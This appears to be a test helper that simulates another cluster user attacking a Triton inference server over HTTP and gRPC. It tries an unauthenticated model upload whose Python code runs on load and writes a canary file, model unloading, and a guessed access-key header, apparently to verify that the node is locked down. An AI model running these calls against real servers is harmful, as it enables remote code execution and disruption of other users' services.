"""What another user of the cluster tries against someone else's serving node (run as that user, on
another node): ``python _intruder.py HOST HTTP_PORT GRPC_PORT MODEL CANARY``. Prints one JSON object:
each call's outcome as ``{"ok": bool, "detail": str}``. CANARY is a file the uploaded model.py would
create, as the node's owner, if its load got through."""

from __future__ import annotations

import base64
import json
import sys
import urllib.error
import urllib.request
from typing import Any

import numpy as np
import tritonclient.grpc as grpcclient
from tritonclient.utils import InferenceServerException

EVIL = "evil"
CONFIG = {"name": EVIL, "backend": "python", "max_batch_size": 0,
          "input": [{"name": "x", "data_type": "TYPE_FP32", "dims": [1]}],
          "output": [{"name": "y", "data_type": "TYPE_FP32", "dims": [1]}]}


def model_py(canary: str) -> bytes:
    return (f"import getpass\nopen({canary!r}, 'w').write(getpass.getuser())\n"
            "class TritonPythonModel:\n    def execute(self, requests):\n        return []\n").encode()


def http(base: str, method: str, path: str, body: dict[str, Any] | None = None,
         headers: dict[str, str] | None = None) -> dict[str, Any]:
    data = json.dumps(body).encode() if body is not None else (b"" if method == "POST" else None)
    request = urllib.request.Request(base + path, data=data, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=60) as resp:
            return {"ok": True, "detail": f"{resp.status} {resp.read(300).decode(errors='replace')}"}
    except urllib.error.HTTPError as err:
        return {"ok": False, "detail": f"{err.code} {err.read(300).decode(errors='replace')}"}
    except OSError as err:
        return {"ok": False, "detail": f"unreachable: {err}"}


def grpc(call: Any, *args: Any, **kwargs: Any) -> dict[str, Any]:
    try:
        answer = call(*args, client_timeout=60, **kwargs)
        return {"ok": True, "detail": str(answer)[:300]}
    except InferenceServerException as err:
        return {"ok": False, "detail": f"{err.status()} {err.message()}"}


def main(host: str, http_port: str, grpc_port: str, model: str, canary: str) -> dict[str, Any]:
    base = f"http://{host}:{http_port}"
    upload = {"parameters": {"config": json.dumps(CONFIG),
                             "file:1/model.py": base64.b64encode(model_py(canary)).decode()}}
    x = np.zeros((1, 16), dtype=np.float32)
    infer_body = {"inputs": [{"name": "features", "shape": [1, 16], "datatype": "FP32", "data": x.ravel().tolist()}]}
    out = {
        "http ready": http(base, "GET", "/v2/health/ready"),
        "http index": http(base, "POST", "/v2/repository/index", {}),
        "http index, guessed key": http(base, "POST", "/v2/repository/index", {}, {"hpc-tf-key": "guess"}),
        "http load with upload": http(base, "POST", f"/v2/repository/models/{EVIL}/load", upload),
        "http unload": http(base, "POST", f"/v2/repository/models/{model}/unload", {}),
        "http config": http(base, "GET", f"/v2/models/{model}/config"),
        "http infer": http(base, "POST", f"/v2/models/{model}/infer", infer_body),
    }
    client = grpcclient.InferenceServerClient(f"{host}:{grpc_port}")
    tensor = grpcclient.InferInput("features", [1, 16], "FP32")
    tensor.set_data_from_numpy(x)
    out |= {
        "grpc ready": grpc(client.is_server_ready),
        "grpc index": grpc(client.get_model_repository_index),
        "grpc load with upload": grpc(client.load_model, EVIL, config=json.dumps(CONFIG),
                                      files={"file:1/model.py": model_py(canary)}),
        "grpc unload": grpc(client.unload_model, model),
        "grpc config": grpc(client.get_model_config, model),
        "grpc infer": grpc(client.infer, model, [tensor]),
    }
    client.close()
    return out


if __name__ == "__main__":
    print(json.dumps(main(*sys.argv[1:6])))
